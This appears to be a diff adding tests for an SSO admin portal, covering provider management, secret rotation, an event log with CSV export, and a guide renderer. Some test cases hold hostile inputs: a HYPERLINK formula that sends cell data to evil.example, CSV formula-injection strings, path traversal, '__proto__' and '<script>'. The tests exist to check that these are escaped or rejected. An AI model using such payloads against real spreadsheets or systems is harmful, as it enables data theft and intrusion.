+    expect((await acme()).enabled).toBe(true)
+    const seen = await done('/acme/remove')
+    expect(seen.url).toBe(`${portal.url}/admin/sso/?done=removed`)
+    expect(await portal.sso.providers.find('acme')).toBeUndefined()
+    expect(textOf(seen)).toMatch(/Removed .*Acme acme, removed on/)
+    expect(textOf(await done('/acme/restore'))).toContain('Restored as a draft')
+    expect((await acme()).enabled).toBe(false)
+  })
+
+  it('that disables signs out those who came in with it where that is ticked, and else nobody', async () => {
+    await openWithAcme()
+    await portal.connect(other, { slug: 'other' })
+    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
+    const ada = new Visitor()
+    await signIn({ portal, visitor: ada }, 'acme')
+    const isIn = async () => (await ada.get(`${portal.url}/portal`)).status === 200
+    await done('/acme/disable')
+    expect(await isIn()).toBe(true)
+    await done('/acme/enable', { withoutRehearsal: 'yes' })
+    await done('/acme/disable', { endSessions: 'on' })
+    expect(await isIn()).toBe(false)
+  })
+
+  it('ends an exchange of client secrets without either of them being typed again', async () => {
+    await openWithAcme()
+    expect(textOf(await post('/acme/promote-secret'))).toContain('has no second client secret')
+    await portal.sso.providers.update('acme', {
+      clientSecret: 'one that has run out',
+      secondClientSecret: provider.clientSecret,
+      secondClientSecretExpiresAt: '2030-01-31',
+    })
+    expect(textOf(await page('/acme'))).toContain('Keep the second only')
+    expect(textOf(await done('/acme/promote-secret'))).toContain('The exchange has ended')
+    expect((await acme()).clientSecretExpiresAt?.slice(0, 10)).toBe('2030-01-31')
+    expect(textOf(await done('/acme/test'))).not.toContain('Credentials: failed')
+  })
+
+  it('has people found again after a new registration: says first who would be, and takes all of it back', async () => {
+    await openWithAcme()
+    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
+    await signIn({ portal, visitor: new Visitor() }, 'acme')
+    const text = textOf(await page('/acme/rebinding'))
+    expect(text).toMatch(/People linked 1 Can be found again 0 Have been 0 Would be orphaned 1 /)
+    expect(text).toContain('ada@example.com')
+    expect(textOf(await done('/acme/rebind', { act: 'start' }))).toContain('Going on since')
+    expect((await acme()).rebindingSince).toBeDefined()
+    expect(textOf(await post('/acme/rebind', { act: 'start' }))).toContain('people are found again already')
+    await done('/acme/rebind', { act: 'stop' })
+    expect((await acme()).rebindingSince).toBeUndefined()
+    await done('/acme/rebind', { act: 'start' })
+    expect(textOf(await done('/acme/rebind', { act: 'undo' }))).toContain('are taken back')
+  })
+
+  it('sets a day on which a provider retires, and takes it back', async () => {
+    await openWithAcme()
+    expect(textOf(await post('/acme/retire', { at: '' }))).toContain(
+      'Enter the day from which it is disabled.',
+    )
+    const day = new Date(Date.now() + 10 * 24 * 3_600_000).toISOString().slice(0, 10)
+    expect(textOf(await done('/acme/retire', { at: day }))).toContain('The day is set.')
+    expect((await acme()).retiringAt?.slice(0, 10)).toBe(day)
+    await done('/acme/keep')
+    expect((await acme()).retiringAt).toBeUndefined()
+  })
+
+  it('on a provider that is not there finds no page', async () => {
+    await open()
+    for (const act of ['test', 'enable', 'disable', 'move', 'recommend', 'remove', 'edit', 'rehearse'])
+      expect([act, (await post(`/nobody/${act}`)).status]).toEqual([act, 404])
+  })
+})
+
+describe('the event log', () => {
+  const write = (events: object[]) =>
+    portal.knex.batchInsert(
+      'sso_events',
+      events.map((event, at) => ({
+        id: randomUUID(),
+        portal: 'default',
+        at: `2026-11-${String(1 + (at % 28)).padStart(2, '0')}T12:00:00.000Z`,
+        kind: 'signed-in',
+        detail: '{}',
+        ...event,
+      })),
+      50,
+    )
+
+  it('shows what a filter finds', async () => {
+    await open()
+    await write([
+      { provider: 'acme', user_id: 'ada' },
+      { provider: 'other', user_id: 'grace' },
+      {
+        kind: 'refused',
+        provider: 'acme',
+        reference: 'K7QX2M9P',
+        detail: JSON.stringify({ code: 'answer_invalid', reason: 'the nonce is another one' }),
+      },
+    ])
+    expect(textOf(await page('/events?user=ada'))).toMatch(/2026-11-01 12:00:00 Signed in acme ada /)
+    expect(textOf(await page('/events?user=ada'))).not.toContain('grace')
+    expect(textOf(await page('/events?reference=k7qx2m9p'))).toContain('reason: the nonce is another one')
+    expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).toMatch(/2026-11-02 .*other grace/)
+    expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).not.toContain('2026-11-03')
+    expect(textOf(await page('/events?kind=linked'))).toContain('Nothing has happened')
+  })
+
+  it('is read page by page', async () => {
+    await open()
+    await write(Array.from({ length: 70 }, () => ({ provider: 'acme' })))
+    const first = await page('/events?provider=acme')
+    const [, next = ''] = /href="([^"]*before=[^"]*)"/.exec(first.body) ?? []
+    const second = await admin.get(portal.url + next.replaceAll('&amp;', '&'))
+    const rows = (seen: Seen) => seen.body.split('<time').length - 1
+    expect([rows(first), rows(second)]).toEqual([50, 20])
+  })
+
+  it.each([
+    'kind=Not+A+Kind',
+    'provider=%00',
+    'from=yesterday',
+    'to=2026-13-45',
+    'from=2026-02-30',
+    'reference=<script>',
+  ])('says what is wrong with %s', async (query) => {
+    await open()
+    const seen = await page(`/events?${query}`)
+    expect(seen.status).toBe(422)
+    expect(seen.body).toContain('aria-invalid="true"')
+    expect(seen.body).not.toContain('events.csv')
+    expect((await page(`/events.csv?${query}`)).status).toBe(404)
+  })
+
+  it('is a table for spreadsheets, with all that the filter finds', async () => {
+    await open()
+    await write(Array.from({ length: 2500 }, (_, at) => ({ provider: at % 5 === 0 ? 'other' : 'acme' })))
+    const { headers, body } = await page('/events.csv?provider=acme')
+    expect(headers.get('content-type')).toContain('text/csv')
+    expect(headers.get('content-disposition')).toBe('attachment; filename="sso-events.csv"')
+    expect(headers.get('cache-control')).toBe('no-store')
+    const lines = body.split('\r\n')
+    expect(lines[0]).toBe('at,kind,provider,userId,by,reference,clientAddress,detail')
+    expect(lines).toHaveLength(1 + 2000 + 1)
+    expect(new Set(lines).size).toBeGreaterThan(28)
+  })
+
+  it('holds no formula that a spreadsheet would run', async () => {
+    await open()
+    const formula = '=HYPERLINK("https://evil.example/?"&A1)'
+    await write([{ user_id: formula }])
+    const { body } = await page('/events.csv')
+    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`)
+  })
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', '"\'\r=1"'],
+    [' =1', "' =1"],
+    ['＝1', "'＝1"],
+    // With a decimal comma, as in German, a semicolon begins the next cell.
+    ['a;=1', "a;'=1"],
+    ['a; "-1', `"a;' ""-1"`],
+    ['a;b', 'a;b'],
+    ['a=1', 'a=1'],
+    ['a,b', '"a,b"'],
+    ['a"b', '"a""b"'],
+    ['a\nb', '"a\nb"'],
+    ['', ''],
+  ])('writes %j as %j', (text, cell) => {
+    expect(csvLine([text, 'x'])).toBe(`${cell},x\r\n`)
+  })
+})
+
+describe('what is read', () => {
+  it('can be handed to whoever decides about it', async () => {
+    await openWithAcme()
+    const text = textOf(await page('/acme/what-is-read'))
+    expect(text).toContain('The scopes are openid email profile and no others')
+    expect(text).toContain('Nothing is synchronised')
+    for (const claim of [
+      'iss, sub',
+      'email_verified',
+      'sid',
+      'auth_time, acr',
+      'name, given_name, family_name',
+    ])
+      expect(text).toContain(claim)
+    expect(text).toContain('Roles, groups, departments')
+  })
+})
+
+describe('a guide', () => {
+  it('is a page: headings, steps, tables and commands, and nothing in it is markup', () => {
+    const text = [
+      '# Okta <b>',
+      '',
+      'Two lines',
+      'of **one** paragraph, see [Google](google.md).',
+      '1. First `code`',
+      '   goes on',
+      '2. *Second*',
+      '',
+      '| a | b |',
+      '|---|---|',
+      '| `x` | y |',
+      '```sh',
+      'portal-sso *providers*',
+      '```',
+      '- Third',
+      '',
+      '  ```json',
+      '  {',
+      '    "a": 1 }',
+      '  ```',
+      '',
+      '---',
+    ].join('\n')
+    const plain = (words: string) => ({ style: 'plain', text: words })
+    expect(blocksOf(text)).toEqual([
+      { type: 'heading', level: 1, text: [plain('Okta <b>')] },
+      {
+        type: 'paragraph',
+        text: [
+          plain('Two lines of '),
+          { style: 'strong', text: 'one' },
+          plain(' paragraph, see '),
+          { style: 'link', text: 'Google', href: 'google.md' },
+          plain('.'),
+        ],
+      },
+      {
+        type: 'list',
+        ordered: true,
+        items: [
+          [plain('First '), { style: 'code', text: 'code' }, plain(' goes on')],
+          [{ style: 'emphasis', text: 'Second' }],
+        ],
+      },
+      {
+        type: 'table',
+        head: [[plain('a')], [plain('b')]],
+        rows: [[[{ style: 'code', text: 'x' }], [plain('y')]]],
+      },
+      { type: 'code', text: 'portal-sso *providers*' },
+      { type: 'list', ordered: false, items: [[plain('Third')]] },
+      { type: 'code', text: '{\n  "a": 1 }' },
+    ])
+  })
+
+  it.each(presets.map(({ name }) => [name]))('is there for %s', async (name) => {
+    await open()
+    const { status, body } = await page(`/new/${name}/guide`)
+    expect([status, body]).toEqual([200, expect.stringContaining('<h2>')])
+    expect(body).toContain(`href="/admin/sso/new/${name}"`)
+  })
+
+  it.each(['nothing', '..%2f..%2fpackage', '__proto__'])('is not there for %s', async (name) => {
+    await open()
+    expect((await page(`/new/${name}/guide`)).status).toBe(404)
+  })
+})
